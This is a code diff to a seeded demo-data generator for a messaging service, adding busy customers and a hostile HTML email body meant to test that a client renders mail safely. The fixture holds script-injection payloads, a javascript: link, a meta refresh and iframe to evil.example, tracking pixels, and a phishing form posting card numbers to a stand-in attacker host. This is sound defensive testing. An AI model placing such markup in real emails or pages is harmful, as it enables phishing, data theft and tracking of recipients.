@@ -46,6 +46,7 @@ const SUBJECTS: Record<MessageType, string[]> = {
     'New arrivals this week',
     'Только сегодня: скидки до 40%',
     'Weekend picks for you',
+    '+1 bonus point for you',
   ],
   trigger: ['You left something in your cart', 'Back in stock!', 'Цена снизилась', 'We miss you'],
   transactional: [
@@ -57,8 +58,43 @@ const SUBJECTS: Record<MessageType, string[]> = {
 }
 
 const DAY = 86_400_000
-/** Seeded history covers 60 days; the reference advises date_from within 2 weeks anyway. */
-const HISTORY_DAYS = 60
+/** Seeded history covers four months; the reference advises date_from within 2 weeks anyway. */
+const HISTORY_DAYS = 120
+/** Busy customers (every 250th, external id U100000, U100250, …) page beyond 50 in 2 weeks. */
+const BUSY_EVERY = 250
+const BUSY_COUNT = 150
+const BUSY_RECENT = 80
+const RECENT_DAYS = 13
+
+/**
+ * Markup a hostile or careless template may carry: a script, an event handler, a
+ * javascript: link, a meta refresh, a form, CSS url() and remote images. A client must
+ * render it so that nothing runs, nothing navigates and nothing is fetched.
+ */
+export const HOSTILE_BODY = [
+  '<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">',
+  '<style>body{background:url(https://tracker.example/css-bg.png)}</style>',
+  '<script>window.__pwned = "script"; try { parent.__pwned = "script" } catch (e) {}</script>',
+  '<h1>Your order is on its way</h1>',
+  '<p style="background-image:url(https://tracker.example/inline-bg.png)">Track it any time.</p>',
+  '<img src="https://tracker.example/open.gif" width="1" height="1" alt="">',
+  '<img src="x" onerror="window.__pwned = \'onerror\'; top.__pwned = \'onerror\'" alt="broken">',
+  '<p><a href="javascript:window.__pwned=\'link\';void 0">Claim your bonus</a></p>',
+  '<p><a href="https://demo.example.com/orders/track">Track your order</a></p>',
+  '<form action="https://evil.example/collect" method="post"><input name="card" placeholder="Card number"><button>Confirm</button></form>',
+  '<iframe src="https://evil.example/frame"></iframe>',
+  '<svg><image href="https://tracker.example/svg.png"/></svg>',
+].join('\n')
+
+function emailBody(subject: string, code: string, rng: ReturnType<typeof createRng>): string {
+  if (rng.chance(0.15)) return HOSTILE_BODY
+  return [
+    `<h1>${subject}</h1>`,
+    '<p>Hello! See what is new for you.</p>',
+    '<p><img src="https://demo.example.com/banner.jpg" alt="Banner" width="480"></p>',
+    `<p><a href="https://demo.example.com/m/${code}">Open in the shop</a></p>`,
+  ].join('\n')
+}
 
 /** Generated codes embed the customer index so /notifications/:code can regenerate them. */
 export function seededMessageCode(customerIndex: number, n: number): string {
@@ -89,16 +125,23 @@ function statistics(rng: ReturnType<typeof createRng>, channel: MessageChannel):
 /** The seeded history of one customer, newest first. Pure function of (seed, customer, now). */
 export function seededMessages(seed: number, customer: Customer, now: Date): Message[] {
   const rng = createRng(deriveSeed(seed, 'messages', customer.index))
-  const count = rng.int(5, 40)
+  const busy = customer.index % BUSY_EVERY === 0
+  const count = busy ? BUSY_COUNT : rng.int(5, 40)
   const channels: MessageChannel[] = ['web_push', 'mobile_push', 'telegram', 'whatsapp']
   if (customer.email) channels.push('email', 'email', 'email')
   if (customer.phone) channels.push('sms', 'sms')
   const out: Message[] = []
   for (let n = 0; n < count; n++) {
     const type = rng.pick(MESSAGE_TYPES)
-    const channel = rng.pick(channels)
-    const sentAt = new Date(now.getTime() - rng.int(0, HISTORY_DAYS * DAY))
+    const channel = n === 0 && busy ? 'email' : rng.pick(channels)
+    const days = busy && n < BUSY_RECENT ? RECENT_DAYS : HISTORY_DAYS
+    // A busy customer's newest message is always the hostile one, an hour old.
+    const hostileFirst = busy && n === 0
+    const sentAt = new Date(
+      now.getTime() - (hostileFirst ? DAY / 24 : rng.int(DAY / 12, days * DAY)),
+    )
     const code = seededMessageCode(customer.index, n)
+    const subject = hostileFirst ? 'Your order is on its way' : rng.pick(SUBJECTS[type])
     out.push({
       type,
       channel,
@@ -106,9 +149,12 @@ export function seededMessages(seed: number, customer: Customer, now: Date): Mes
       code,
       date: sentAt.toISOString().slice(0, 10),
       sent_at: sentAt.toISOString(),
-      subject: rng.pick(SUBJECTS[type]),
-      body:
-        channel === 'email' ? '<p>Hello! See what is new for you.</p>' : 'See what is new for you.',
+      subject,
+      body: hostileFirst
+        ? HOSTILE_BODY
+        : channel === 'email'
+          ? emailBody(subject, code, rng)
+          : 'See what is new for you.',
       url: `https://demo.example.com/m/${code}`,
       icon: channel.endsWith('push') ? 'https://demo.example.com/icon.png' : '',
       picture: rng.chance(0.3) ? 'https://demo.example.com/banner.jpg' : '',
